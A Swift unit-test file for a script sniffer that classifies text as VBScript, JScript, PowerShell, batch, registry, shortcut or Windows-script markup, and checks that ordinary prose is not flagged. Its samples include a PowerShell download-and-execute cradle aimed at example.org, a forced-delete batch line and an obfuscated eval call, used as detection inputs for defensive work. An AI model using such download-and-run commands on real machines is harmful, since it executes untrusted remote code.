// SPDX-License-Identifier: Apache-2.0

import Testing

@testable import Inspection

@Suite struct ScriptSnifferTests {
    private func sniff(_ text: String, isMarkup: Bool = false) -> String? {
        let octets = Array(text.utf8)
        return ScriptSniffer.type(of: octets.span, isMarkup: isMarkup)
    }

    @Test(arguments: [
        ("On Error Resume Next\r\nx = 1\r\n", "text/vbscript"),
        ("Dim files\r\nSet files = CreateObject(\"Scripting.FileSystemObject\")\r\n", "text/vbscript"),
        ("' a comment\r\nWScript.CreateObject(\"x\")\r\n", "text/vbscript"),
        ("Sub Main\r\nMsgBox \"hi\" & Chr(13)\r\nEnd Sub\r\n", "text/vbscript"),
        ("var x = new ActiveXObject(\"Scripting.FileSystemObject\");\n", "text/javascript"),
        ("eval(unescape('%61'));\n", "text/javascript"),
        ("var a = function(){ return 1 };\n", "text/javascript"),
        ("var s = String.fromCharCode(97, 98);\n", "text/javascript"),
        ("Invoke-Expression (New-Object Net.WebClient).DownloadString('http://example.org/x')\n", "application/x-powershell"),
        ("#Requires -Version 5\nGet-Process\n", "application/x-powershell"),
        ("param($x)\nWrite-Host $env:USERNAME\n", "application/x-powershell"),
        ("@echo off\r\ndel /f /q x\r\n", "text/x-msdos-batch"),
        ("\u{FEFF}@ECHO OFF\r\n", "text/x-msdos-batch"),
        ("rem start\r\nsetlocal\r\ncd %~dp0\r\nif errorlevel 1 goto end\r\n", "text/x-msdos-batch"),
        ("[InternetShortcut]\r\nURL=http://example.org/\r\n", "application/x-mswinurl"),
        ("Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\x]\r\n", "text/x-ms-regedit"),
        ("REGEDIT4\r\n", "text/x-ms-regedit"),
        ("\r\n\r\n  @echo off\r\n", "text/x-msdos-batch"),
    ])
    func kinds(text: String, wanted: String) {
        #expect(sniff(text) == wanted, "\(text)")
    }

    @Test(arguments: [
        ("<html><HTA:APPLICATION id=x>", "application/hta"),
        ("<job id=\"a\"><script language=\"VBScript\">", "text/x-windows-script"),
        ("<package><job>", "text/x-windows-script"), ("<job>\n<script language=\"JScript\">", "text/x-windows-script"),
        ("<?XML version=\"1.0\"?>\n<scriptlet>", "text/x-windows-script"),
    ])
    func markup(text: String, wanted: String) {
        #expect(sniff(text, isMarkup: true) == wanted, "\(text)")
    }

    /// Pages hold scripts of their own.
    @Test(arguments: [
        "<html><script>var x = function(){}; eval(unescape('y'))</script></html>", "<html>on error resume next</html>",
        "<html><script language=\"JScript\">x()</script></html>",
    ])
    func pagesAreNoScripts(text: String) {
        #expect(sniff(text, isMarkup: true) == nil)
    }

    @Test(arguments: [
        "", " ", "var x", "set the dim lights", "The article has a var and a function, no more.", "Alvar set out.",
        "wscript. is a word",
        "goto hell", "echo offshore", "New-Object is a cmdlet", "@echoes", "[internet]", "regedit",
    ])
    func proseIsNoScript(text: String) {
        #expect(sniff(text) == nil)
    }

    /// Signs count in the first kilobytes only: beyond, a long text would be read for each look.
    @Test func onlyTheBeginningCounts() {
        let padding = String(repeating: "word ", count: 1000)
        #expect(sniff(padding + "on error resume next") == nil)
        #expect(sniff(String(repeating: "word ", count: 500) + "on error resume next") == "text/vbscript")
    }

    @Test func hostileTextIsNotSlow() {
        let texts = ["w", "<", "var ", "e", "echo ", "wscript", "\""].map { String(repeating: $0, count: 40_000) }
        let elapsed = ContinuousClock().measure { for text in texts { _ = sniff(text) } }
        #expect(elapsed < .seconds(5))
    }
}
